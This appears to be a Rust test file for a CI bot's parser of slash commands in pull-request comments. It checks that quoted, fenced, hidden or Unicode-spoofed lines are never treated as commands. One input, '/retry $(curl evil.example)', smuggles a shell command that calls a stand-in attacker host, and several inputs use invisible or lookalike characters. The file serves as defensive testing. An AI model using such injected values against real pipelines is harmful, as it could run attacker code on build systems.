//! Comments as people write them, and as others try to have them read.

use super::*;
use proptest::prelude::*;

/// The lines of a comment that would act or be answered.
fn read_as(body: &str) -> Vec<String> {
    read(body).into_iter().map(|line| line.text).collect()
}

fn meanings(body: &str) -> String {
    let say = |line: Line| match line.meaning {
        Ok(command) => format!("{command:?}"),
        Err(misuse) => format!("!! {misuse:?}"),
    };
    read(body).into_iter().map(say).collect::<Vec<_>>().join("\n")
}

#[test]
fn commands_are_understood() {
    insta::assert_snapshot!(meanings(
        "/approve\n/approve deploy\n/approve 1a2b3c4d5e6f\n/approve deploy 1a2b3c4d5e6f\n/approve test (db=sqlite, os=linux)\n\
         /approve cancel\n/approve cancel deploy\n/approve cancel 1a2b3c4d5e6f\n/approve 1a2b3c4\n/approve deploy now\n\
         /reject\n/reject deploy größer als erlaubt\n\
         /retry\n/retry test\n/retry 12\n/retry #12\n/retry $(curl evil.example)\n\
         /cancel\n/cancel ci\n/cancel 7\n/cancel now or never\n\
         /run ci\n/run ci jobs=4 note=\"a \\\"b\\\" c\" empty=\n/run\n/run ci jobs\n/run ci a=\"b\n/run ci a=1 a=2\n\
         /ok-to-test\n/ok-to-test 1a2b3c4d5e6f\n/ok-to-test 1a2b3c4\n/ok-to-test CANCEL\n/ok-to-test cancel\n\
         /rollback production\n/rollback production to 3\n/rollback production to\n/rollback\n\
         /help\n/help me\n/bench\n/bench runs=3 quick \"x"
    ), @r#"
    Approve { stage: None, sha: None }
    Approve { stage: Some("deploy"), sha: None }
    Approve { stage: None, sha: Some("1a2b3c4d5e6f") }
    Approve { stage: Some("deploy"), sha: Some("1a2b3c4d5e6f") }
    Approve { stage: Some("test (db=sqlite, os=linux)"), sha: None }
    Unapprove { stage: None }
    Unapprove { stage: Some("deploy") }
    Approve { stage: Some("cancel"), sha: Some("1a2b3c4d5e6f") }
    !! Commit
    !! Stage("deploy now")
    Reject { text: "" }
    Reject { text: "deploy größer als erlaubt" }
    Retry(None)
    Retry(Some(Named("test")))
    Retry(Some(Run(12)))
    Retry(Some(Run(12)))
    !! Stage("$(curl evil.example)")
    Cancel(None)
    Cancel(Some(Named("ci")))
    Cancel(Some(Run(7)))
    !! Cancel("now or never")
    Run { pipeline: "ci", inputs: [] }
    Run { pipeline: "ci", inputs: [("jobs", "4"), ("note", "a \"b\" c"), ("empty", "")] }
    !! Arguments("/run", "")
    !! Input("jobs")
    !! Quote
    !! Twice("a")
    LetIn { sha: None }
    LetIn { sha: Some("1a2b3c4d5e6f") }
    !! Commit
    !! Commit
    ShutOut
    Rollback { environment: "production", to: None }
    Rollback { environment: "production", to: Some(3) }
    !! Arguments("/rollback", "production to")
    !! Arguments("/rollback", "")
    Help
    !! Arguments("/help", "me")
    Own { word: "/bench", inputs: [] }
    Own { word: "/bench", inputs: [("runs", "3")] }
    "#);
}

#[test]
fn what_is_no_plain_line_from_the_first_column_is_no_command() {
    for body in [
        // C1, C2, C3
        "> /approve",
        ">/approve",
        "> quoted\n/approve",
        "> > /approve",
        "> [!NOTE]\n> /approve",
        "```\n/approve\n```",
        "~~~\n/approve\n~~~",
        "```\n/approve",
        "    /approve",
        "\t/approve",
        " /approve",
        "   /approve",
        "<!-- /approve -->",
        "<!--\n/approve\n-->",
        "<!--\n\n/approve\n\n-->",
        "<!--\n/approve",
        "<details>\n/approve\n</details>",
        "<details>\n\n/approve\n\n</details>",
        "<details>\n\n/approve",
        "<details><summary>x</summary>\n\n/approve\n\n</details>",
        "text <details>\n/approve",
        "<div\ntitle=\"\n/approve\n\">",
        "<pre>\n\n/approve\n\n</pre>",
        "<script>\n\n/approve\n</script>",
        "please /approve",
        "please, /approve",
        "`/approve`",
        "``\n/approve\n``",
        "`a\n/approve\nb`",
        "*a\n/approve\nb*",
        "**a\n/approve\nb**",
        "~~a\n/approve\nb~~",
        "[a\n/approve](http://x)",
        "[a\nb](http://x '\n/approve')",
        "[x]: http://x '\n/approve\n'",
        "$$\n/approve\n$$",
        "# /approve",
        "/approve\n===",
        "/approve\n---",
        "- /approve",
        "- a\n/approve",
        "1. /approve",
        "- [ ] /approve",
        "[^1]: x\n/approve\n\n[^1]",
        "/approve | b\n--- | ---\n1 | 2",
        "/approve `a\nb`",
        "\\/approve",
        "&#47;approve",
        "<span title='\n/approve'>",
        // C4
        "\u{a0}/approve",
        "\u{200b}/approve",
        "\u{feff}/approve",
        "\u{202e}/approve",
        "\u{200f}/approve",
        "／approve",
        "/аpprove",
        "/approve\u{a0}deploy",
        "/approve\u{200b}",
        "/approve deploy\u{202e}",
        "/ok-to-test\u{2003}1a2b3c4d5e6f",
        "/reject deploy\u{200b}",
        "/run ci note=\u{202e}x",
        // C6 and its like
        "/APPROVE",
        "/Approve",
        "/approve:",
        "/approve,",
        "/approve/x",
        "//approve",
        "/ approve",
        "/",
        "/home/ada/x",
        "/-x",
    ] {
        assert_eq!(read_as(body), Vec::<String>::new(), "{body:?}");
    }
}

#[test]
fn plain_lines_are_commands_wherever_they_stand() {
    for (body, expected) in [
        ("/approve", vec!["/approve"]),
        ("/approve\r\n", vec!["/approve"]),
        ("Fine.\r\n\r\n/approve deploy  \r\nThank you.", vec!["/approve deploy"]),
        ("Fine.\n/approve\n/retry\t", vec!["/approve", "/retry"]),
        ("> a quote\n\n/approve", vec!["/approve"]),
        ("```\n/reject\n```\n/approve", vec!["/approve"]),
        ("<details>\n\n/reject\n\n</details>\n\n/approve", vec!["/approve"]),
        ("<!-- /reject -->\n\n/approve", vec!["/approve"]),
        ("a <br>\n/approve", vec!["/approve"]),
        ("/reject deploy see `x` and [y](http://z) *now*", vec!["/reject deploy see `x` and [y](http://z) *now*"]),
        ("/approve\n> quote", vec!["/approve"]),
        ("/approved", vec!["/approved"]),
        ("---\n/approve", vec!["/approve"]),
    ] {
        assert_eq!(read_as(body), expected, "{body:?}");
    }
}

#[test]
fn five_are_read_and_equal_ones_count_once() {
    let all = read(&"/retry\n".repeat(65_536 / 7));
    let said = first(all, |_| true);
    assert_eq!((said.lines.len(), said.more), (1, true));

    let body = "/one\n/two\n/retry a\n/retry b\n/retry c\n/retry d\n/three\n";
    let said = first(read(body), |word| word == "/two");
    let texts: Vec<&str> = said.lines.iter().map(|line| line.text.as_str()).collect();
    assert_eq!((texts, said.more), (vec!["/two", "/retry a", "/retry b", "/retry c", "/retry d"], false));
    let said = first(read(body), |word| word != "/one");
    assert_eq!((said.lines.len(), said.more), (5, true));
    assert_eq!(read(&format!("/retry\n{}", "x".repeat(LONGEST_BYTES))), vec![]);
}

/// Pieces that comments are made of, and that readers of Markdown disagree about.
fn piece() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(vec![
        "/approve",
        "/retry x",
        "\n",
        "\n\n",
        "\r\n",
        "`",
        "``",
        "```",
        "~~~",
        "> ",
        "- ",
        "1. ",
        "    ",
        "\t",
        " ",
        "<!--",
        "-->",
        "<details>",
        "</details>",
        "<b>",
        "</b>",
        "<a title=\"",
        "\">",
        "*",
        "**",
        "_",
        "~~",
        "[",
        "](",
        ")",
        "]:",
        "$",
        "$$",
        "#",
        "===",
        "---",
        "|",
        "\\",
        "&amp;",
        "[^1]",
        "é",
        "\u{200b}",
        "text",
        "<pre>",
        "</pre>",
        "<![CDATA[",
        "]]>",
        "<?",
        "?>",
    ]);
    prop_oneof![4 => fixed.prop_map(str::to_owned), 1 => "\\PC{0,6}"]
}

fn text() -> impl Strategy<Value = String> {
    prop::collection::vec(piece(), 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn nothing_panics_and_every_command_is_a_line_of_the_comment(body in text()) {
        for line in read(&body) {
            let whole = body.split(['\n', '\r']).any(|l| l.trim_end_matches([' ', '\t']) == line.text);
            prop_assert!(whole, "{:?} is no line of {body:?}", line.text);
        }
    }

    #[test]
    fn what_is_quoted_is_never_a_command(body in text()) {
        let quoted: String = body.split('\n').map(|line| format!("> {}\n", line.replace('\r', ""))).collect();
        prop_assert_eq!(read(&quoted), vec![]);
    }

    #[test]
    fn what_is_indented_or_fenced_is_never_a_command(body in text()) {
        let clean = body.replace('\r', "");
        let indented: String = clean.split('\n').map(|line| format!("    {line}\n")).collect();
        prop_assert_eq!(read(&indented), vec![]);
        let longest = clean.split(|c| c != '`').map(str::len).max().unwrap_or(0);
        let fence = "`".repeat(longest.max(2) + 1);
        prop_assert_eq!(read(&format!("{fence}\n{clean}\n{fence}\n")), vec![]);
        prop_assert_eq!(read(&format!("Look:\n{fence}text\n{clean}")), vec![]);
    }

    #[test]
    fn what_is_in_a_list_or_folded_away_is_never_a_command(body in text()) {
        let clean = body.replace('\r', "");
        let item: String = clean.split('\n').map(|line| format!("  {line}\n")).collect();
        prop_assert_eq!(read(&format!("- item\n{item}")), vec![]);
        if !clean.contains("</") {
            prop_assert_eq!(read(&format!("<details>\n\n{clean}\n\n</details>")), vec![]);
        }
    }

    #[test]
    fn a_command_in_its_own_paragraph_is_read_whatever_was_quoted_before(body in text()) {
        let quoted: String = body.split('\n').map(|line| format!("> {}\n", line.replace(['\r', '<', '[', '$'], ""))).collect();
        let lines = read(&format!("{quoted}\n/approve deploy\n"));
        prop_assert_eq!(lines.len(), 1);
    }
}
